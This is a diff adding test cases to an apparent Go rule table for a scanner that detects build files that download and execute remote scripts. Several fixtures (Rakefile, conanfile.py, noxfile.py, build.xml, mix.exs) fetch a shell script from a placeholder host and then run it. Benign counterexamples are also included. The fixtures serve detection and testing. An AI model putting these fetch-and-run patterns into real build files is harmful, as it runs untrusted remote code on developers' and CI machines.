@@ -260,6 +260,13 @@ var registry = []Rule{
 		// Ant's <get> fetches and its <exec> runs, in build.xml or a POM's antrun target.
 		{"build.xml", "<project>\n  <target name=\"gen\">\n    <get src=\"https://x.invalid/g.sh\" dest=\"${build.dir}/g.sh\"/>\n    <exec executable=\"sh\" failonerror=\"false\">\n      <arg value=\"${build.dir}/g.sh\"/>\n    </exec>\n  </target>\n</project>", 5, false},
 		{"pom.xml", "<target>\n  <exec executable=\"git\" outputproperty=\"git.rev\">\n    <arg value=\"rev-parse\"/>\n    <arg value=\"HEAD\"/>\n  </exec>\n  <exec executable=\"npm\" dir=\"${basedir}/ui\"><arg line=\"run build\"/></exec>\n</target>", 0, true},
+		// Code that hands literal commands to a shell or a process: one
+		// call downloads, the next runs what it wrote (Rake's sh, Conan's
+		// self.run, nox's session.run with an argument list).
+		{"Rakefile", "task :setup do\n  sh \"curl -fsSLo /tmp/b.sh https://x.invalid/b.sh\"\n  sh \"sh /tmp/b.sh\"\nend", 3, false},
+		{"conanfile.py", "class X(ConanFile):\n    def build(self):\n        self.run(\"wget -qO /tmp/b.sh https://x.invalid/b.sh\")\n        self.run(\"bash /tmp/b.sh\")", 4, false},
+		{"noxfile.py", "@nox.session\ndef t(session):\n    session.run(\"curl\", \"-fsSLo\", \"/tmp/b.sh\", \"https://x.invalid/b.sh\", external=True)\n    session.run(\"sh\", \"/tmp/b.sh\", external=True)", 4, false},
+		{"setup.py", "import subprocess\nsubprocess.check_call([\"git\", \"submodule\", \"update\", \"--init\"])\nsubprocess.check_call(\"make -C build -j4\", shell=True)\nsubprocess.check_call([\"cmake\", \"-S\", \".\", \"-B\", \"build\", f\"-DPYTHON={sys.executable}\"])", 0, true},
 		// A Mix compiler in mix.exs: mix compile and mix test run it.
 		{"mix.exs", "defmodule Mix.Tasks.Compile.Probe do\n  use Mix.Task.Compiler\n  def run(_) do\n    {script, 0} = System.cmd(\"curl\", [\"-fsSL\", \"https://x.invalid/p.sh\"])\n    System.cmd(\"sh\", [\"-c\", script])\n  end\nend", 5, false},
 		// A native library fetched for the build is not run by the fetch.
